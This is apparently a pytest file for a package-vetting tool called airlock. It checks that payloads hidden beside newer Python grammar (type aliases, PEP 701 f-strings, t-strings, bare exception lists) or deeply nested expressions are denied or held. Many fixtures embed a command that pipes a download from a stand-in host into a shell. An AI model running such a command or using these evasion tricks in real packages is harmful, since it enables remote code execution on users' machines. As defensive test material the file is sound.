"""Modules written in a grammar newer than airlock's own Python (ADR 0095).

An insider who knows airlock parses with its interpreter's grammar puts one line that only a
newer Python reads (``type X = int``) beside the payload: the module was reported as
unparseable and the package allowed, while the enclave's newer Python ran it on import.
"""

from __future__ import annotations

import ast

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.fstrings import put_back, set_aside
from airlock.imports.packages.grammar import lowered, parse_module, runs_on_no_python3
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

# A download run by the shell: denied wherever airlock can read it.
DROP = "os.system('curl http://drop.example/x | sh')"
PAYLOAD = f"import os\n{DROP}\n"

DENIED = {
    "payload-beside-a-type-alias": init("type Vector = list[float]\n" + PAYLOAD),
    "payload-beside-a-generic-alias": init("type Pair[T] = tuple[T, T]\n" + PAYLOAD),
    "payload-beside-a-generic-function": init(
        "def first[T](xs: list[T]) -> T:\n    return xs[0]\n" + PAYLOAD
    ),
    "payload-beside-a-generic-class": init("class Box[T: int = int]:\n    pass\n" + PAYLOAD),
    "payload-inside-a-generic-function-called-on-import": init(
        "import os\ndef go[**P, R]() -> None:\n    " + DROP + "\ngo()\n"
    ),
    "payload-after-a-type-parameter-list-over-lines": init(
        "def first[\n    T,\n    U,\n](xs: list[T]) -> T:\n    return xs[0]\n" + PAYLOAD
    ),
    # PEP 701: the f-string's own quote inside a field; the older tokenizer stops there.
    "payload-beside-a-pep701-fstring": init(
        'name = "x"\nlabel = f"{"a" if name else "b"}"\n' + PAYLOAD
    ),
    "payload-inside-a-pep701-fstring-field": init(
        'import os\nlabel = f"{os.system("curl http://drop.example/x | sh")}"\n'
    ),
    "payload-inside-a-t-string-field": init(
        "import os\nlabel = t'{os.system('curl http://drop.example/x | sh')}'\n"
    ),
    # PEP 758 (3.14): exceptions listed without parentheses.
    "payload-in-a-handler-of-a-bare-exception-list": init(
        "import os\ntry:\n    import missing\nexcept ImportError, OSError:\n    " + DROP + "\n"
    ),
    "setup-py-beside-a-type-alias": {
        "setup.py": "type Flag = bool\n" + PAYLOAD + "from setuptools import setup\nsetup()\n"
    },
}
HELD = {
    # No Python reads ``??`` today; one may tomorrow. What airlock cannot read is held.
    "grammar-no-python-reads-yet": init("value = None ?? 1\n" + PAYLOAD),
    "nested-too-deep-to-parse": init("x = " + "+".join(["1"] * 100_000) + "\n" + PAYLOAD),
    "attributes-chained-too-deep": init("x = a" + ".b" * 50_000 + "\n" + PAYLOAD),
}
ALLOWED = {
    # numpy 2.5's and scipy 1.18's typing modules: aliases and nothing else.
    "type-aliases-only": init(
        "from typing import Any\ntype Array = Any\ntype Pair[T] = tuple[T, T]\n"
    ),
    "generic-functions-only": init(
        "def first[T](xs: list[T]) -> T:\n    return xs[0]\n\nclass Box[T]:\n    item: T\n"
    ),
    # Python 2 text (billiard's docs, boringssl's scripts in grpcio): read as the Python 3 it
    # means and vetted (ADR 0140; with a payload it is denied, test_vet_python2.py).
    "python2-module": init("print 'hello'\nimport os\nos.path.join('a', 'b')\n"),
    "unreadable-test-data": {
        "evpkg/__init__.py": "",
        "tests/data/future.py": "value = None ?? 1\n" + PAYLOAD,
    },
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_newer_grammar(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


# f-strings the older grammar reads as well: read the same way through the newer reader.
OLDER_FSTRINGS = [
    'x = (f"a{b!r:>{w}}c" "plain" f\'{d=}\')\nz = 1\n',
    'x = f"{x=:>10}" + f"{x = }" + f"{a!=b}"\n',
    'x = rf"\\{y}\\d" + f"{{literal}}{n:{width}.{precision}}"\n',
    'x = f"""line\n{value!s}\n"""\ncall()\n',
]


@pytest.mark.parametrize("source", OLDER_FSTRINGS)
def test_set_aside_fstrings_read_as_the_older_parser_reads_them(source: str) -> None:
    aside = set_aside(source)
    assert aside is not None
    tree = put_back(ast.parse(aside.text), aside, lambda text: ast.parse(text, mode="eval").body)
    assert ast.dump(tree) == ast.dump(ast.parse(source))


@pytest.mark.parametrize(
    ("source", "read"),
    [
        ('x = f"{"a" if y else "b"}"\n', "x = f\"{('a' if y else 'b')}\""),
        ('x = f"{f"{f"{1}"}"}"\n', 'x = f"""{f"{f\'{1}\'}"}"""'),
        ('x = f"""{\n  a # a comment\n  + b\n}"""\n', "x = f'{a + b}'"),
        ("x = t'hello {name}'\n", "x = f'hello {name}'"),
    ],
)
def test_pep701_fstrings_are_read(source: str, read: str) -> None:
    assert ast.unparse(parse_module(source)) == read


def test_an_fstring_field_keeps_its_line() -> None:
    tree = parse_module('x = f"""\n{\n  run("a")\n}"""\nafter()\n')
    calls = {n.func.id: n.lineno for n in ast.walk(tree) if isinstance(n, ast.Call)}  # type: ignore[attr-defined]
    assert calls == {"run": 3, "after": 5}


def test_lowering_keeps_the_lines_of_what_follows() -> None:
    source = "def f[\n    T,\n](x: T) -> T:\n    return x\ncall_me()\n"
    text = lowered(source)
    assert text is not None
    calls = [n for n in ast.walk(ast.parse(text)) if isinstance(n, ast.Call)]
    assert [c.lineno for c in calls] == [5]
    assert text.count("\n") == source.count("\n")


def test_an_alias_is_read_as_an_assignment() -> None:
    tree = parse_module("type Pair[T] = tuple[T, T]\n")
    (statement,) = tree.body
    assert isinstance(statement, ast.Assign)
    assert ast.unparse(statement) == "Pair = tuple[T, T]"


@pytest.mark.parametrize(
    "source",
    [
        "if type in [int, str]:\n    pass\n",
        "kinds = [type for type in (int, str)]\n",
        "type = 3\nprint(type)\n",
        "x = type(3)\n",
    ],
)
def test_type_as_a_name_is_left_alone(source: str) -> None:
    assert lowered(source) is None
    assert ast.dump(parse_module(source)) == ast.dump(ast.parse(source))


def test_text_it_cannot_lower_raises_the_first_error() -> None:
    with pytest.raises(SyntaxError, match="invalid syntax"):
        parse_module("type Vector = list[float]\nvalue = None ?? 1\n")


def test_python2_text_runs_on_no_python3() -> None:
    with pytest.raises(SyntaxError) as printed:
        ast.parse("print 'hello'\n")
    assert runs_on_no_python3(printed.value)
    with pytest.raises(SyntaxError) as future:
        ast.parse("value = None ?? 1\n")
    assert not runs_on_no_python3(future.value)


@pytest.mark.parametrize(
    ("source", "read"),
    [
        ("try:\n    x()\nexcept A, B:\n    pass\n", "try:\n    x()\nexcept (A, B):\n    pass"),
        ("try:\n    x()\nexcept* A, B:\n    pass\n", "try:\n    x()\nexcept* (A, B):\n    pass"),
    ],
)
def test_a_bare_exception_list_is_read_as_a_tuple(source: str, read: str) -> None:
    assert ast.unparse(parse_module(source)) == read
